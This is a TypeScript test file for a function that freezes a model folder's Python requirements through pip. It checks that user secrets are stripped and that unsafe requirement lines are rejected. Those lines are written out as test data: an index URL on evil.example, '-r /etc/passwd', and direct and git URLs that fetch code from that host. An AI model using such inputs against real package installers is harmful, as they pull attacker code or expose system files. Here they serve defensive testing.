import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { freezeRequirements } from './freeze-requirements.ts'

let root: string
let folder: string
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'slipway-frozen-'))
  folder = join(root, 'model')
  mkdirSync(folder)
})
afterEach(() => rmSync(root, { recursive: true }))

/** A program in the place of Python that tells what it was run with, and reports what pip would. */
const standIn = (install: readonly unknown[]): string => {
  const python = join(root, 'python')
  writeFileSync(join(root, 'report'), JSON.stringify({ install }))
  const script = `env >> ${root}/env; echo "$@" >> ${root}/args
for last; do :; done; cat "$last" >> ${root}/list
while [ $# -gt 0 ]; do [ "$1" = --report ] && cp ${root}/report "$2"; shift; done; exit 0`
  writeFileSync(python, `#!/bin/sh\n${script}\n`, { mode: 0o755 })
  return python
}
const read = (name: string): string => readFileSync(join(root, name), 'utf8')
const addsNothing = (): Promise<readonly string[]> => Promise.resolve([])
const freeze = (
  install: readonly unknown[],
  more: {
    readonly withWheels?: boolean
    readonly sourceBuilds?: boolean
    readonly requirements?: string[]
    readonly added?: typeof addsNothing
  } = {},
): Promise<void> => {
  const { withWheels = false, sourceBuilds = false, requirements, added = addsNothing } = more
  const environment = { PATH: process.env['PATH'], HOME: '/home/somebody', AWS_SECRET: 'secret', PIP_CERT: '/cert' }
  const order = { folder, wheels: join(root, 'wheels'), requirements }
  return freezeRequirements(order, { python: standIn(install), environment, withWheels, sourceBuilds, added })
}
const ofIndex = { is_direct: false, download_info: { url: 'https://index.example/b.whl' } }
const numpy = { ...ofIndex, metadata: { name: 'numpy', version: '2.1.0' } }

describe('requirements that are frozen', () => {
  it('become the versions that pip picks, from wheels alone, without the secrets of the user', async () => {
    writeFileSync(join(folder, 'requirements.txt'), 'numpy>=2\n')
    await freeze([numpy, { ...ofIndex, metadata: { name: 'Joblib', version: '1' } }])
    expect(readFileSync(join(folder, 'requirements.txt'), 'utf8')).toBe('Joblib==1\nnumpy==2.1.0\n')
    expect(read('args')).toContain('-I -m pip')
    expect(read('args')).toContain('--only-binary=:all:')
    expect(read('env')).not.toMatch(/secret|HOME=\/home\/somebody/)
    expect(read('env')).toContain('PIP_CERT=/cert')
    expect(readdirSync(folder)).toEqual(['requirements.txt'])
  })

  it('hold what a server adds, wheels included, also where nothing else is required', async () => {
    await freeze([numpy], { withWheels: true, added: () => Promise.resolve(['numpy']) })
    expect(readFileSync(join(folder, 'requirements.txt'), 'utf8')).toBe('numpy==2.1.0\n')
    expect(read('list')).toBe('numpy\nnumpy==2.1.0\n')
    expect(read('args')).toContain('download')
  })

  it('may be built where the user says so', async () => {
    writeFileSync(join(folder, 'requirements.txt'), 'numpy>=2\n')
    await freeze([numpy], { sourceBuilds: true })
    expect(read('args')).not.toContain('only-binary')
  })

  it("stay files of the model's own", async () => {
    writeFileSync(join(folder, 'requirements.txt'), './code/rates-1.0-py3-none-any.whl\n')
    const path = join(folder, 'code/rates-1.0-py3-none-any.whl')
    const own = {
      is_direct: true,
      download_info: { url: `file://${path}` },
      metadata: { name: 'rates', version: '1.0' },
    }
    await freeze([own], { withWheels: true })
    expect(readFileSync(join(folder, 'requirements.txt'), 'utf8')).toBe('code/rates-1.0-py3-none-any.whl\n')
    expect(read('list')).toBe(`${path}\n${path}\n`)
  })

  it.each([
    '--index-url https://evil.example/simple\nnumpy',
    '-r /etc/passwd',
    'numpy @ https://evil.example/numpy.tar.gz',
    'git+https://evil.example/a.git',
    'code/evil-1.0.tar.gz',
    '-e .',
  ])("are not taken from a model's file when a server would not take them: %s", async (text) => {
    writeFileSync(join(folder, 'requirements.txt'), text)
    await expect(freeze([numpy])).rejects.toThrow(/requirements.txt can't be frozen/)
    expect(existsSync(join(root, 'args'))).toBe(false)
  })

  it('tell what pip says when it fails', async () => {
    const python = join(root, 'failing')
    writeFileSync(python, '#!/bin/sh\necho "ERROR: no such package" >&2\nexit 1\n', { mode: 0o755 })
    const options = { python, environment: {}, withWheels: false, sourceBuilds: false, added: addsNothing }
    const order = { folder, wheels: '', requirements: ['nothing'] }
    await expect(freezeRequirements(order, options)).rejects.toThrow(/could not freeze.*ERROR: no such package/s)
    await expect(freezeRequirements(order, { ...options, python: '/nowhere/x' })).rejects.toThrow(/can't be run/)
    await expect(freezeRequirements(order, { ...options, python: '/bin/true' })).rejects.toThrow(/it reports nothing/)
  })
})
